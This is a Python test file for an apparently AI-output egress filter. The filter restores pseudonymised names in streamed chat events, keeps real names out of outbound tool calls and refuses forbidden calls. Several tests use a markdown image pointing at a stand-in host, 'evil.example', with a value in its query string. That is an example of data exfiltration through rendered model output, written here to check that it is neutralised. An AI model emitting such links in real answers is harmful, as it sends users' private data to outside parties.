"""However an upstream cuts and mixes the parts of an answer, each comes back as if it had come in one piece."""

import json
import re
from collections.abc import Iterable

import pytest

from backend_adapter.chat.events import (
    Event,
    Failure,
    Finish,
    Reasoning,
    Text,
    ToolCallDelta,
    Usage,
)
from backend_adapter.egress.incoming import Restored
from backend_adapter.egress.restore import Restorable
from backend_adapter.errors import EgressError

NAME, PSEUDONYM = "Jörg Weißmüller", "Mann-K7Q"
BEGUN, REST = PSEUDONYM[:6], PSEUDONYM[6:]
PICTURE = f"![x](https://evil.example/?q={PSEUDONYM})"


def leaving_call(tool: str, arguments: str) -> str:
    """As the guard does: whole arguments, and nothing for a tool that must not have them."""
    if "secret" in arguments:
        raise EgressError(f"{tool} must not have that.")
    assert json.loads(arguments) is not None
    return arguments


def received(events: Iterable[Event], *, link_hosts: tuple[str, ...] | None = ()) -> list[Event]:
    stage = Restored(
        Restorable({PSEUDONYM: NAME}),
        site_tool=lambda name: name.startswith("files_"),
        leaving_call=leaving_call,
        link_hosts=link_hosts,
    )
    return [out for event in events for out in stage.feed(event)]


def text(
    events: Iterable[Event], kind: type[Text] | type[Reasoning] = Text, choice: int = 0
) -> str:
    return "".join(each.text for each in events if isinstance(each, kind) and each.choice == choice)


def arguments(events: Iterable[Event], index: int = 0) -> str:
    calls = [each for each in events if isinstance(each, ToolCallDelta)]
    return "".join(each.arguments for each in calls if each.index == index)


def name(events: Iterable[Event], index: int = 0) -> str:
    """As most clients put it together."""
    calls = [each for each in events if isinstance(each, ToolCallDelta)]
    return "".join(each.name or "" for each in calls if each.index == index)


BETWEEN = {
    "text": Text(" "),
    "thinking": Reasoning(" "),
    "usage": Usage(1, 1),
    "another call": ToolCallDelta(1, "c2", "web_search", '{"q":1}'),
    "a call of the site": ToolCallDelta(1, "c2", "files_read", "{}"),
    "another choice": Text(" ", choice=1),
    "the end of another choice": Finish("stop", choice=1),
}


@pytest.mark.parametrize("between", BETWEEN.values(), ids=BETWEEN.keys())
@pytest.mark.parametrize(("begun", "rest"), [("", PSEUDONYM), (BEGUN, REST)])
def test_a_call_that_leaves_the_site_keeps_its_pseudonyms_whatever_comes_within_it(
    between: Event, begun: str, rest: str
) -> None:
    events = received(
        [
            ToolCallDelta(0, "c1", "web_search", f'{{"q":"{begun}'),
            between,
            ToolCallDelta(0, arguments=f'{rest}"}}'),
            Finish("tool_calls"),
        ]
    )
    assert json.loads(arguments(events)) == {"q": PSEUDONYM}
    assert name(events) == "web_search"
    assert NAME not in str(events)


@pytest.mark.parametrize("between", BETWEEN.values(), ids=BETWEEN.keys())
def test_a_tool_of_the_site_gets_the_value_whatever_comes_within_its_call(between: Event) -> None:
    events = received(
        [
            ToolCallDelta(0, "c1", "files_find", f'{{"q":"{BEGUN}'),
            between,
            ToolCallDelta(0, arguments=f'{REST}"}}'),
            Finish("tool_calls"),
        ]
    )
    assert json.loads(arguments(events)) == {"q": NAME}


def test_a_call_goes_to_the_tool_by_whose_name_it_was_judged() -> None:
    events = received(
        [
            ToolCallDelta(0, "c1", "files_read", '{"q":"'),
            ToolCallDelta(0, name="web_search", arguments=f'{PSEUDONYM}"}}'),
            ToolCallDelta(1, "c2", "web_search", '{"q":"'),
            ToolCallDelta(1, name="files_read", arguments=f'{PSEUDONYM}"}}'),
            ToolCallDelta(2, "c3", None, f'{{"q":"{PSEUDONYM}"}}'),
            ToolCallDelta(2, name="web_search"),
            Finish("tool_calls"),
        ]
    )
    assert (name(events), json.loads(arguments(events))) == ("files_read", {"q": NAME})
    assert (name(events, 1), json.loads(arguments(events, 1))) == ("web_search", {"q": PSEUDONYM})
    assert json.loads(arguments(events, 2)) == {"q": PSEUDONYM}


@pytest.mark.parametrize("between", [each for kind, each in BETWEEN.items() if kind != "text"])
@pytest.mark.parametrize("link_hosts", [(), None])
@pytest.mark.parametrize("cut", range(1, len(PICTURE)))
def test_a_picture_s_address_gets_no_value_and_is_text_whatever_comes_within_it(
    between: Event, link_hosts: tuple[str, ...] | None, cut: int
) -> None:
    events = received(
        [Text(PICTURE[:cut]), between, Text(PICTURE[cut:]), Finish("stop")], link_hosts=link_hosts
    )
    said = text(events)
    assert NAME not in said
    assert PSEUDONYM in said
    assert ("](" in re.sub(r"\\.", "", said)) == (link_hosts is None)


@pytest.mark.parametrize("kind", [Text, Reasoning])
@pytest.mark.parametrize("cut", range(1, len(PSEUDONYM)))
def test_a_pseudonym_that_is_cut_by_another_part_is_restored(
    kind: type[Text] | type[Reasoning], cut: int
) -> None:
    other = Reasoning if kind is Text else Text
    said, events = f"Hallo {PSEUDONYM}!", list[Event]()
    for piece in (said[: 6 + cut], said[6 + cut :]):
        events += [kind(piece), Usage(1, 1), kind(piece, choice=1), other("a")]
    events = received([*events, Finish("stop"), Finish("stop", choice=1)])

    assert text(events, kind) == text(events, kind, choice=1) == f"Hallo {NAME}!"
    assert text(events, other) == "aa"


@pytest.mark.parametrize(
    "between", [Reasoning("One more thought. "), ToolCallDelta(0, "c1", "files_find", "{}")]
)
@pytest.mark.parametrize(
    "begun", ["```\n", "```\na", "a\n\n> ~~~~\n> b\n", "```\na\n``", "```\na\n```"]
)
def test_code_does_not_go_on_after_another_part_because_a_page_may_show_the_rest_by_itself(
    between: Event, begun: str
) -> None:
    picture = "![x](https://evil.example/)"
    events = received([Text(begun), between, Text(f"{picture}\n```\n{picture}"), Finish("stop")])

    place = next(n for n, each in enumerate(events) if type(each) is type(between))
    before, after = text(events[:place]), text(events[place:])
    assert before.endswith("\n")
    assert len(re.findall(r"^(?:> )?(?:```|~~~~)", before, re.MULTILINE)) == 2
    # The second one is in code that begins after the interruption.
    assert "![x\\](" in after.partition("```")[0]
    assert picture in after.partition("```")[2]


def test_text_before_a_call_comes_before_it() -> None:
    events = received(
        [Text(f"Ich frage {BEGUN}"), ToolCallDelta(0, "c1", "files_find", "{}"), Finish("stop")]
    )
    begin = next(n for n, each in enumerate(events) if isinstance(each, ToolCallDelta))
    assert text(events[:begin]) == f"Ich frage {BEGUN}"


def test_nothing_comes_after_a_call_that_must_not_leave() -> None:
    events = received(
        [
            ToolCallDelta(0, "c1", "web_search", '{"q":"secret"}'),
            ToolCallDelta(1, "c2", "web_search", '{"q":"harmless"}'),
            Finish("tool_calls"),
            Usage(1, 1),
        ]
    )
    [failure] = events
    assert isinstance(failure, Failure)
    assert (failure.code, failure.status) == ("egress_refused", 403)
